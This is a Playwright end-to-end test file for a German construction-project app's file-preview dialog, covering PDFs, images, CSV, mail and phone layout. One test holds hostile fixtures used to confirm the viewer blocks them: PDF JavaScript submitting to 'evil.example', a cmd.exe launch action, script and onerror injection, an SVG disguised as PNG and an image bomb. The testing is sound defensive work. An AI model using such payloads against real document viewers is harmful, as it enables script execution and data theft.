import type { Page } from '@playwright/test';
import { expectAccessible } from '../accessibility.ts';
import { harmlessMail, hostileMail } from '../files/mails.ts';
import { makePdf } from '../files/make-pdf.ts';
import { makePng } from '../files/make-png.ts';
import { createProject } from '../pages/projects.ts';
import { showFiles, type ShownFile } from '../pages/shown-files.ts';
import { openAs, people } from '../people.ts';
import { expect, test } from '../story.ts';

const plan: ShownFile = {
  name: 'Plansatz.pdf',
  mime: 'application/pdf',
  bytes: makePdf({
    pages: Array.from({ length: 200 }, (_, index) => ({
      lines: [`Blatt ${index + 1}`, 'Wärmebrücke Sockel'],
      // The second sheet is an A0 plan.
      size: index === 1 ? [3370, 2384] : [595, 842],
    })),
  }),
};

const harmless: readonly ShownFile[] = [
  plan,
  {
    name: 'Ansicht.png',
    mime: 'image/png',
    bytes: makePng({ width: 800, height: 500, color: (x, y) => [x % 256, y % 256, 90] }),
  },
  {
    name: 'Notiz.txt',
    mime: 'text/plain',
    bytes: Buffer.from('Größe der Fenster', 'latin1'),
  },
  {
    name: 'Bauteile.csv',
    mime: 'text/csv',
    bytes: Buffer.from(
      `Bauteil;U-Wert\n${Array.from({ length: 5000 }, (_, index) => `Wand ${index};0,24`).join('\n')}`,
    ),
  },
  { name: 'Anfrage.eml', mime: 'message/rfc822', bytes: harmlessMail },
  {
    name: 'Bericht.docx',
    mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: Buffer.from('PK'),
  },
];

async function openBoard(page: Page, files: readonly ShownFile[]): Promise<void> {
  const project = await createProject(page);
  await showFiles(page, files);
  await openAs(page, people.user, `/attachment/${project.projectId}`);
}

const preview = (page: Page, name: string) => page.getByRole('dialog', { name, exact: true });
const look = (page: Page, name: string): Promise<void> =>
  page.getByRole('button', { name: `${name} ansehen`, exact: true }).click();

test.describe('seeing files in the page', () => {
  // The policy meets what the cleaning of a mail takes apart, and the frame without rights the recorder's own script.
  // Whether anything of a file ran is judged by the story itself.
  test.use({
    expectBlockedContent: true,
    expectedConsole: [/^Blocked script execution in 'about:srcdoc'/u],
  });

  test('each kind is seen in its own way, from one to the next by the arrow keys', async ({ page }) => {
    await openBoard(page, harmless);
    await look(page, 'Plansatz');
    await expect(preview(page, 'Plansatz').getByText('Blatt 1', { exact: true })).toBeVisible();
    await expectAccessible(page);

    await page.keyboard.press('ArrowRight');
    await expect(
      preview(page, 'Ansicht').getByRole('img', { name: 'Ansicht', exact: true }),
    ).toBeVisible();
    await expectAccessible(page);

    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Notiz')).toContainText('Größe der Fenster');

    await page.keyboard.press('ArrowRight');
    const table = preview(page, 'Bauteile').getByRole('table');
    await expect(table.getByRole('columnheader', { name: 'U-Wert' })).toBeVisible();
    await expect(table.getByRole('cell', { name: 'Wand 3', exact: true })).toBeVisible();
    await expect(table).toHaveAttribute('aria-rowcount', '5001');
    expect(await table.getByRole('row').count()).toBeLessThan(100);
    await expectAccessible(page);

    await page.keyboard.press('ArrowRight');
    const mail = preview(page, 'Anfrage');
    await expect(mail).toContainText('Familie Hüber <m.hueber@albblick.example>');
    const text = mail.frameLocator('iframe');
    await expect(text.getByText('anbei der Lageplan.')).toBeVisible();
    await expect(text.getByRole('img', { name: 'Logo' })).toBeVisible();
    await mail.getByRole('button', { name: /^PDF Lageplan/u }).click();
    await expect(preview(page, 'Lageplan').getByText('Lageplan Lerchenweg')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(preview(page, 'Lageplan')).toBeHidden();

    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Bericht')).toContainText('Word-Dokument');
    await expect(page.getByRole('button', { name: 'Nächste Datei (→)' })).toBeDisabled();
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
    await expect(page.getByRole('button', { name: 'Plansatz ansehen', exact: true })).toBeFocused();
  });

  test('200 sheets stay light, and a word in them is found', async ({ page }) => {
    await openBoard(page, [plan]);
    await look(page, 'Plansatz');
    const dialog = preview(page, 'Plansatz');
    await expect(dialog.getByText('Blatt 1', { exact: true })).toBeVisible();
    await dialog.getByRole('textbox', { name: 'Seite', exact: true }).fill('150');
    await page.keyboard.press('Enter');
    await expect(dialog.getByText('Blatt 150', { exact: true })).toBeVisible();
    expect(await dialog.locator('canvas').count()).toBeLessThan(15);

    await dialog.getByRole('textbox', { name: 'Seite', exact: true }).fill('2');
    await page.keyboard.press('Enter');
    await expect(dialog.getByText('Blatt 2', { exact: true })).toBeVisible();
    for (let step = 0; step < 8; step += 1)
      await dialog.getByRole('button', { name: 'Vergrößern' }).click();
    const largest = (): Promise<number> =>
      dialog
        .locator('canvas')
        .evaluateAll((all) =>
          Math.max(...all.map((one) => (one instanceof HTMLCanvasElement ? one.width * one.height : 0))),
        );
    await expect.poll(largest).toBeLessThanOrEqual(2 ** 24);

    await page.keyboard.press('Control+f');
    await dialog.getByRole('textbox', { name: 'Im Dokument suchen' }).fill('sockel');
    await expect(dialog.getByRole('status')).toHaveText(/von 200$/u);
    await page.keyboard.press('Escape');
    await expect(dialog.getByRole('search')).toBeHidden();
    await expect(dialog).toBeVisible();
  });

  test('a protected PDF asks for its password, a broken one says so', async ({ page }) => {
    await openBoard(page, [
      {
        name: 'Geschützt.pdf',
        mime: 'application/pdf',
        bytes: makePdf({ pages: [{ lines: ['Kostenschätzung'] }], password: 'haus' }),
      },
      { name: 'Defekt.pdf', mime: 'application/pdf', bytes: Buffer.from('%PDF-1.7 und nichts weiter') },
    ]);
    await look(page, 'Geschützt');
    const dialog = preview(page, 'Geschützt');
    const password = dialog.getByLabel('Passwort der Datei');
    await expect(password).toBeFocused();
    await password.fill('falsch');
    await page.keyboard.press('Enter');
    await expect(dialog).toContainText('Das Passwort stimmt nicht.');
    await password.fill('haus');
    await page.keyboard.press('Enter');
    await expect(dialog.getByText('Kostenschätzung')).toBeVisible();
    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Defekt')).toContainText(
      'Die Datei ist kein lesbares PDF oder beschädigt.',
    );
  });

  test('nothing in a hostile file runs, asks or fetches', async ({ page, context }) => {
    const happened: string[] = [];
    page.on('dialog', (dialog) => {
      happened.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('popup', (popup) => happened.push(`window ${popup.url()}`));
    context.on('request', (request) => {
      if (request.url().includes('evil.example')) happened.push(request.url());
    });
    const script = 'app.alert\\(1\\); this.submitForm\\("https://evil.example/o"\\)';
    const link = (rectangle: string, target: string): string =>
      `<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /A << /S /URI /URI (${target}) >> >>`;
    await openBoard(page, [
      {
        name: 'Rechnung.pdf',
        mime: 'application/pdf',
        bytes: makePdf({
          pages: [{ lines: ['Rechnung 17'] }],
          catalogue: `/OpenAction << /S /JavaScript /JS (${script}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`,
          annotations: [
            link('60 700 300 780', 'https://kfw.de@evil.example/weg'),
            link('60 600 300 690', 'javascript:parent.attacked=1'),
            '<< /Type /Annot /Subtype /Link /Rect [60 500 300 590] /A << /S /Launch /F (cmd.exe) >> >>',
            `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [60 400 300 490] /A << /S /JavaScript /JS (${script}) >> >>`,
          ],
        }),
      },
      { name: 'Nachricht.eml', mime: 'message/rfc822', bytes: hostileMail },
      {
        name: 'Markup.txt',
        mime: 'text/plain',
        bytes: Buffer.from(
          '<script>attacked = 1</script><img src=https://evil.example/p onerror=attacked=2>',
        ),
      },
      {
        name: 'Zeichnung.png',
        mime: 'image/png',
        bytes: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" onload="attacked=1"><image href="https://evil.example/q.png"/></svg>',
        ),
      },
      {
        name: 'Bombe.png',
        mime: 'image/png',
        bytes: makePng({ width: 60_000, height: 60_000, isHollow: true }),
      },
      { name: 'Virus.pdf', mime: 'application/pdf', bytes: Buffer.from('x'), scan: 'BEFALLEN' },
    ]);
    await look(page, 'Rechnung');
    const pdf = preview(page, 'Rechnung');
    await expect(pdf.getByText('Rechnung 17')).toBeVisible();
    const links = pdf.locator('.annotationLayer a[href]');
    await expect(links).toHaveCount(1);
    await expect(links).toHaveAttribute('title', 'https://evil.example/weg');
    await expect(links).toHaveAttribute('rel', /noopener noreferrer/u);

    await page.keyboard.press('ArrowRight');
    const mail = preview(page, 'Nachricht');
    await expect(mail).toContainText('Bilder aus dem Internet werden nicht geladen');
    const text = mail.frameLocator('iframe');
    await expect(text.getByText('Guten Tag')).toBeVisible();
    await text.getByText('Rechnung').click();
    await expect(
      text.locator('script, iframe, form, input, object, embed, [onload], [href]'),
    ).toHaveCount(0);

    await mail.getByRole('button', { name: 'Nächste Datei (→)' }).click();
    await expect(preview(page, 'Markup')).toContainText('<script>attacked = 1</script>');
    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Zeichnung')).toContainText('Der Inhalt dieser Datei ist kein Bild');
    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Bombe')).toContainText('mit 60.000 × 60.000 Pixeln zu groß');
    await page.keyboard.press('ArrowRight');
    await expect(preview(page, 'Virus')).toContainText('wurde Schadsoftware gefunden');
    await expect(preview(page, 'Virus').getByRole('button', { name: 'Herunterladen' })).toHaveCount(0);

    expect(await page.evaluate(() => 'attacked' in globalThis)).toBe(false);
    expect(happened).toEqual([]);
  });
});

test.describe('on a phone', () => {
  test.use({ viewport: { width: 390, height: 844 }, hasTouch: true });

  test('a plan fits the width, and the tools stay within reach', async ({ page }) => {
    await openBoard(page, harmless);
    await look(page, 'Plansatz');
    const dialog = preview(page, 'Plansatz');
    await expect(dialog.getByText('Blatt 1', { exact: true })).toBeVisible();
    const sheet = await dialog.getByRole('region', { name: 'Seite 1', exact: true }).boundingBox();
    expect(sheet?.width).toBeLessThanOrEqual(390);
    await expect(dialog.getByRole('button', { name: 'Drehen' })).toBeInViewport();
    await expectAccessible(page);
    await dialog.getByRole('button', { name: 'Schließen', exact: true }).tap();
    await expect(dialog).toBeHidden();
  });
});
